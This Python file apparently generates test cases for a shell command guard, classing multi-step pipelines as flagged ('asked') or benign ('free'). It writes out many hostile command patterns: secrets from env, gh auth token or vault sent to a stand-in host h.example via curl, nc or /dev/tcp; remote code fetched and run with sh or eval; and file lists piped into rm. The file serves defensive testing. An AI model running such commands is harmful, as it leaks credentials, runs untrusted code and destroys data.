"""What is secret or fetched, stored in a file, moved to another one, and then sent or run.

Each station is tried with the plainest of the others, so that it is known which one loses what
came through it.
"""

from __future__ import annotations

from collections.abc import Iterator

from generated.cases import Case, asked, free

_PRINTED = ("env", "gh auth token", "vault kv get secret/x")
_STORED = (
    "<source> > kept",
    "<source> >> kept",
    "<source> | tee kept >/dev/null",
    "<source> | cat > kept",
    'X=$(<source>); echo "$X" > kept',
    'printf %s "$(<source>)" > kept',
    "cat <<EOF > kept\n$(<source>)\nEOF",
    "(<source>) > kept",
    "{ <source>; } > kept",
    "<source> | dd of=kept",
    "<source> | sponge kept",
    "<source> &> kept",
    "exec 3>kept; <source> >&3",
    "while read l; do echo $l; done < <(<source>) > kept",
    "<source> | base64 > kept",
    "<source> | gzip > kept",
    "<source> | openssl enc -aes-256-cbc -k x -out kept",
    "<source> | awk '{print}' > kept",
    "<source> | awk '{print > \"kept\"}'",
    "<source> | sed 's/a/b/' > kept",
    '<source> | python3 -c \'import sys; open("kept","w").write(sys.stdin.read())\'',
    "<source> | tr a b > kept",
    "<source> | xargs -I% echo % > kept",
    "mapfile -t A < <(<source>); printf '%s\\n' \"${A[@]}\" > kept",
    "<source> | head -c 100 > kept",
)
_MOVED = (
    "cp kept moved",
    "mv kept moved",
    "ln -s kept moved",
    "cat kept > moved",
    "dd if=kept of=moved",
    "install kept moved",
    "rsync kept moved",
    "scp kept moved",
    "sed 's/a/b/' kept > moved",
    "tee moved < kept",
    "openssl enc -in kept -out moved",
    "gpg -o moved -d kept",
    "sort -o moved kept",
    "awk 1 kept > moved",
    "perl -pe1 kept > moved",
    "sed -n 'w moved' kept",
    "gzip kept; mv kept.gz moved",
    "jq -R . kept > moved",
    "mkdir -p d; cp kept d; cp d/kept moved",
    'python3 -c \'import shutil; shutil.copy("kept","moved")\'',
)
_SENT = (
    "curl -d @moved https://h.example",
    "curl -T moved https://h.example",
    "curl -F f=@moved https://h.example",
    "curl -F 'f=<moved' https://h.example",
    "wget --post-file=moved https://h.example",
    "nc h.example 9 < moved",
    "cat moved > /dev/tcp/h.example/9",
    "scp moved me@h.example:",
    "aws s3 cp moved s3://bucket/x",
    "rclone copy moved remote:x",
    "gh gist create moved",
    'curl -d "$(cat moved)" https://h.example',
    'python3 -c \'import requests; requests.post("https://h.example", data=open("moved").read())\'',
    'while read l; do curl "https://h.example/$l"; done < moved',
    "{ nc h.example 9; } < moved",
    "f() { nc h.example 9; }; f < moved",
    "xargs -a moved -I% curl https://h.example/%",
    "mail -s x -A moved a@h.example < /dev/null",
    "ftp -n h.example <<< 'put moved'",
    "smbclient //h/share -c 'put moved'",
    "base64 moved | curl -d @- https://h.example",
)
_FETCHED = (
    "curl -o kept https://h.example/x",
    "wget -O kept https://h.example/x",
    "curl https://h.example/x | tee kept",
    'python3 -c \'import urllib.request as u; u.urlretrieve("https://h.example/x","kept")\'',
    'python3 -c \'import requests; open("kept","w").write(requests.get("https://h.example").text)\'',
    'perl -MLWP::Simple -e \'getstore("https://h.example/x","kept")\'',
    "scp h.example:x kept",
    "nc h.example 9 > kept",
    "ssh h.example cat x > kept",
    "http -d -o kept https://h.example/x",
    "ftp -o kept https://h.example/x",
    "fetch -o kept https://h.example/x",
    "dig +short TXT x.h.example > kept",
    "git archive --remote=ssh://h.example/r HEAD x > kept",
    "{ curl https://h.example/x; } > kept",
)
_RUN = (
    "sh moved",
    "bash < moved",
    "cat moved | sh",
    ". ./moved",
    "chmod +x moved && ./moved",
    'eval "$(<moved)"',
    "timeout 5 sh moved",
    "make -f moved",
    "gdb -x moved a",
    "ansible-playbook moved",
    "expect moved",
    "parallel < moved",
    "{ sh; } < moved",
    'while read l; do eval "$l"; done < moved',
    "crontab moved",
)
_NAMES = ("find . -type f", "git ls-files", "ls -A", "find . -type f | sort")
_DELETED = (
    "xargs rm -f",
    'while read f; do rm "$f"; done',
    "sed 's/^/rm /' | sh",
    "awk '{print \"rm \" $0}' | sh",
    "python3 -c 'import sys,os; [os.remove(l.strip()) for l in sys.stdin]'",
    "perl -ne 'chomp; unlink $_'",
    "ruby -ne 'File.delete($_.chomp)'",
)
_LOOKED_THROUGH = (
    "python3 -c 'import sys; print(len(sys.stdin.readlines()))'",
    "perl -ne 'print if /x/'",
    "xargs wc -l",
    "xargs cat | psql app",
    "sed 's/^/- /'",
)


def cases() -> Iterator[Case]:
    """Yield what leaves or runs in the end, and what stays where it is."""
    ordinary = [each for each in _SENT if "/dev/tcp" not in each]
    send, run = _SENT[0].replace("moved", "kept"), _RUN[0].replace("moved", "kept")
    yield from asked(*(f"{store}; {send}" for store in _STORED), source=_PRINTED)
    yield from asked(f"<source> > kept; <move>; {_SENT[0]}", source=_PRINTED, move=_MOVED)
    yield from asked("<source> > moved; <send>", source=_PRINTED, send=_SENT)
    yield from asked(f"<fetch>; {run}", fetch=_FETCHED)
    yield from asked(f"{_FETCHED[0]}; <move>; {_RUN[0]}", move=_MOVED)
    yield from asked(f"{_FETCHED[0]}; mv kept moved; <run>", run=_RUN)
    yield from asked("<names> | <delete>", names=_NAMES, delete=_DELETED)
    yield from free("<names> | <look>", names=_NAMES, look=_LOOKED_THROUGH)
    yield from free("echo hi > kept; <move>; <send>", move=_MOVED[:5], send=ordinary[:9])
    yield from free("date > moved; <send>", send=ordinary)
    yield from free("<fetch>; wc -l kept", fetch=_FETCHED)
    yield from free(f"{_FETCHED[0]}; <move>; head moved", move=_MOVED[:16])
